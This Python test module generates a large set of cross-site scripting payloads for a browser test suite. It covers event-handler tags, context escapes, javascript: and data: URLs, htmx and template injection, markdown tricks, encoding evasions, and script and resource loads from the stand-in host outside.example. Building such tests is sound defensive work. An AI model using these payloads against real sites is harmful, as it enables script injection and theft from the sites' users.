"""Texts that try to run a script or to call another host, made in families: what runs, where it
stands, how it is written. Each one that succeeds calls the watch's marker, or asks OUTSIDE."""

import itertools
from urllib.parse import quote

from tests.browser.watching import MARKER

OUTSIDE = "outside.example"
CALL = f"{MARKER}(1)"
# Tags that fire by themselves, and their handlers.
FIRING = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("iframe src=about:blank", "onload"),
    ("object data=x", "onerror"),
    ("style", "onload"),
    ("link rel=stylesheet href=/static/css/base.css", "onload"),
    ("select autofocus", "onfocus"),
    ("p popover id=o contenteditable autofocus", "onfocus"),
)
# How a text may be torn out of what surrounds it.
ESCAPES = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</select>{}",
    "</template>{}",
    "-->{}",
    "]]>{}",
    "</style>{}",
    "</option></datalist>{}",
)
ATTRIBUTES = (
    '" autofocus onfocus="{}',
    "' autofocus onfocus='{}",
    '" onpointerenter={} x="',
    '" style="animation:x" onanimationstart="{}',
    "` autofocus onfocus={} `",
    " autofocus onfocus={} ",
    '" accesskey="x" onclick="{}',
    '"/autofocus/onfocus="{}',
)
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "java&#10;script:{}",
    "javascript&colon;{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+",
    "vbscript:{}",
    "view-source:javascript:{}",
)
LINKS = (
    '<a href="{}">x</a>',
    "[x]({})",
    "![x]({})",
    "<{}>",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button autofocus>x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    "[x]: {}\n\n[x]",
)
SCRIPTS = (
    f"<script>{CALL}</script>",
    f"<script src=//{OUTSIDE}/x.js></script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<svg><script>{CALL}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<script type=module>{CALL}</script>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data='data:text/html,<script>parent.{CALL}</script>'></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href=//{OUTSIDE}/>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}/>#x'/></svg>",
    f"<a hx-on:htmx:load='{CALL}' hx-get=/ hx-trigger=load>x</a>",
    f"<div hx-on::load='{CALL}'>x</div>",
    f"<div hx-get='//{OUTSIDE}/' hx-trigger='load'></div>",
    f"<div hx-get='/' hx-trigger='load[{CALL}]'></div>",
    f"<div hx-vals='js:{{a: {CALL}}}' hx-get='/' hx-trigger=load></div>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"{{% debug %}}{{{{ {MARKER} }}}}<script>{CALL}</script>",
    f"';{CALL};//",
    f'";{CALL};//',
    f"\\';{CALL};//",
    f"</script><script>{CALL}</script>",
)
FETCHING = (
    f"<img src=//{OUTSIDE}/x.png>",
    f"<img srcset='//{OUTSIDE}/x.png 1x'>",
    f"<link rel=stylesheet href=//{OUTSIDE}/x.css>",
    f"<link rel=prefetch href=//{OUTSIDE}/>",
    f"<link rel=icon href=//{OUTSIDE}/x.ico>",
    f"<style>@import '//{OUTSIDE}/x.css';</style>",
    f"<style>*{{background:url(//{OUTSIDE}/x)}}</style>",
    f"<p style='background:url(//{OUTSIDE}/x)'>x</p>",
    f"<video poster=//{OUTSIDE}/x.png></video>",
    f"<iframe src=//{OUTSIDE}/></iframe>",
    f"<input type=image src=//{OUTSIDE}/x.png>",
    f"<svg><image href=//{OUTSIDE}/x.png /></svg>",
    f"<svg><style>@import '//{OUTSIDE}/x.css'</style></svg>",
    f"<table background=//{OUTSIDE}/x.png><tr><td>x</table>",
    f"![x](//{OUTSIDE}/x.png)",
    f'![x](https://{OUTSIDE}/x.png "x" onerror={CALL})',
    f"![x][1]\n\n[1]: https://{OUTSIDE}/x.png",
    f"<meta http-equiv=refresh content='0;url=//{OUTSIDE}/'>",
    f"<object data=//{OUTSIDE}/></object>",
    f"<embed src=//{OUTSIDE}/>",
)
MARKDOWN = (
    f'```"><img src=x onerror={CALL}>\ncode\n```',
    f"```html onload={CALL}\n<script>{CALL}</script>\n```",
    f"`</code><img src=x onerror={CALL}>`",
    f'[x](https://{OUTSIDE} "\\" onmouseover={CALL} x=\\"")',
    f"[<img src=x onerror={CALL}>](/)",
    f"<!-- --!><img src=x onerror={CALL}>",
    f"| a |\n|---|\n| <img src=x onerror={CALL}> |",
    f"# <svg onload={CALL}>",
    f"> <details open ontoggle={CALL}>",
    f"1. <iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"\\<script\\>{CALL}\\</script\\>",
    f'<https://{OUTSIDE}/"onmouseover={CALL}>',
    f"$$<img src=x onerror={CALL}>$$",
)


def _firing() -> list[str]:
    return [f"<{tag} {handler}={CALL}>" for tag, handler in FIRING]


def _spelled(text: str) -> list[str]:
    """The same bytes as other layers might write or read them."""
    return [
        text.upper().replace(CALL.upper(), CALL),
        text.replace(" ", "/"),
        text.replace(" ", "\n"),
        text.replace("=", "=\t"),
        text.replace("<", "\uff1c").replace(">", "\uff1e"),
        text.replace("<", "\\u003c").replace(">", "\\u003e"),
        text.replace("<", "\\x3c"),
        text.replace("<", "&lt;").replace(">", "&gt;"),
        text.replace("<", "&#x3c;"),
        text.replace("<", "&amp;lt;"),
        quote(text),
        quote(quote(text)),
        text.replace("<", "<\u200b"),
        f"\ufeff{text}",
        f"\u202e{text}",
        text.removesuffix(">"),
        f"<{text}",
    ]


def all_payloads() -> list[str]:
    """About three hundred, each once."""
    fires = _firing()
    escaped = [where.format(fires[n % len(fires)]) for n, where in enumerate(ESCAPES * 4)]
    spelled = [text for fire in fires[:5] for text in _spelled(fire)]
    attributes = [one.format(CALL) for one in ATTRIBUTES]
    links = [
        link.format(address.format(CALL)) for link, address in itertools.product(LINKS, ADDRESSES)
    ]
    bare = [address.format(CALL) for address in ADDRESSES]
    families = (SCRIPTS, fires, attributes, FETCHING, MARKDOWN, escaped, spelled, links, bare)
    return list(dict.fromkeys(itertools.chain.from_iterable(families)))


def few_payloads() -> list[str]:
    """One for each way out of a text: enough to notice a field that is not escaped."""
    return [
        SCRIPTS[0],
        f'"><img src=x onerror={CALL}>',
        f"'><svg onload={CALL}>",
        f"</title><details open ontoggle={CALL}>",
        f"</textarea><input autofocus onfocus={CALL}>",
        f'" autofocus onfocus="{CALL}',
        f"<img src=//{OUTSIDE}/x.png>",
        f"[x](javascript:{CALL}) ![x](//{OUTSIDE}/y.png)",
        f"<div hx-get='/' hx-trigger='load[{CALL}]'>{{{{7*7}}}}</div>",
        f"</script><script>{CALL}</script>",
    ]
